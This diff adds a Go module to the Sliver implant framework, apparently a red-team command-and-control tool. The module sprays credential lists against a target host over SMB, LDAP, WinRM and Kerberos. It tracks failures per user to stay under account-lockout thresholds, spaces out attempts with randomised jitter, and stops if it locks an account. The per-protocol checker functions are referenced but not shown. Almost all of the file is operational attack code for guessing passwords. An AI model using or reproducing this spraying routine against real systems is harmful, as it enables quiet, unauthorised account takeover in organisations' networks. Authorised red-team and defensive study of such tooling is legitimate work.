@@ -0,0 +1,157 @@
+package credcheck
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+	"fmt"
+	insecureRand "math/rand"
+	"strings"
+	"time"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+)
+
+// Result statuses, expired and restricted credentials have the right password
+const (
+	Valid      = "valid"
+	Invalid    = "invalid"
+	Locked     = "locked"
+	Disabled   = "disabled"
+	Expired    = "expired"
+	Restricted = "restricted"
+	Skipped    = "skipped"
+	Error      = "error"
+
+	dialTimeout = 10 * time.Second
+)
+
+var (
+	// ErrUnknownProtocol - The protocol has no checker
+	ErrUnknownProtocol = errors.New("unknown protocol")
+	// ErrNoTarget - No host to test the credentials against
+	ErrNoTarget = errors.New("no target")
+
+	// checkers - Test one credential against a target, returns the status of the
+	// credential, errors are returned along with the Error status
+	checkers = map[string]func(target string, user *account, password string) (string, error){
+		"smb":      checkSMB,
+		"ldap":     checkLDAP,
+		"ldaps":    checkLDAPS,
+		"winrm":    checkWinRM,
+		"winrms":   checkWinRMS,
+		"kerberos": checkKerberos,
+	}
+
+	sleep = time.Sleep
+)
+
+type account struct {
+	Name   string
+	Domain string
+}
+
+// parseAccount - Split DOMAIN\user and user@domain, the default domain is used for
+// bare user names
+func parseAccount(user string, defaultDomain string) *account {
+	if index := strings.Index(user, `\`); 0 < index {
+		return &account{Name: user[index+1:], Domain: user[:index]}
+	}
+	if index := strings.LastIndex(user, "@"); 0 < index {
+		return &account{Name: user[:index], Domain: user[index+1:]}
+	}
+	return &account{Name: user, Domain: defaultDomain}
+}
+
+// Validate - Test each credential against each protocol in order, failed attempts
+// are counted per user so no user reaches the lockout threshold, the run is aborted
+// if it looks like we locked an account out
+func Validate(req *sliverpb.ValidateCredsReq) (*sliverpb.ValidateCreds, error) {
+	if req.Target == "" {
+		return nil, ErrNoTarget
+	}
+	for _, protocol := range req.Protocols {
+		if _, ok := checkers[protocol]; !ok {
+			return nil, fmt.Errorf("%w '%s'", ErrUnknownProtocol, protocol)
+		}
+	}
+
+	failures := map[string]uint32{}
+	for user, count := range req.Failures {
+		failures[strings.ToLower(user)] = count
+	}
+	locked := map[string]bool{}
+	resp := &sliverpb.ValidateCreds{}
+	attempted := false
+	for _, cred := range req.Credentials {
+		user := strings.ToLower(cred.User)
+		for _, protocol := range req.Protocols {
+			result := &sliverpb.CredentialResult{
+				ID:       cred.ID,
+				User:     cred.User,
+				Password: cred.Password,
+				Protocol: protocol,
+				Target:   req.Target,
+			}
+			if locked[user] || (0 < req.LockoutThreshold && req.LockoutThreshold-1 <= failures[user]) {
+				result.Status = Skipped
+				result.Timestamp = time.Now().Unix()
+				resp.Results = append(resp.Results, result)
+				continue
+			}
+			if attempted {
+				delay := req.Delay
+				if 0 < req.Jitter {
+					delay += insecureRand.Int63n(req.Jitter)
+				}
+				sleep(time.Duration(delay) * time.Millisecond)
+			}
+			attempted = true
+
+			status, err := checkers[protocol](req.Target, parseAccount(cred.User, req.Domain), cred.Password)
+			result.Status = status
+			if err != nil {
+				result.Error = err.Error()
+			}
+			result.Timestamp = time.Now().Unix()
+			resp.Results = append(resp.Results, result)
+			// {{if .Config.Debug}}
+			log.Printf("[credcheck] %s %s@%s: %s %s", protocol, cred.User, req.Target, status, result.Error)
+			// {{end}}
+
+			switch status {
+			case Invalid:
+				failures[user]++
+			case Locked:
+				// Accounts can already be locked, but if we've failed to login as this user
+				// our guess of the threshold is likely wrong so stop before locking anyone else
+				if 0 < failures[user] {
+					resp.Aborted = fmt.Sprintf("%s was locked out after %d failed attempt(s)", cred.User, failures[user])
+					return resp, nil
+				}
+				locked[user] = true
+			}
+		}
+	}
+	return resp, nil
+}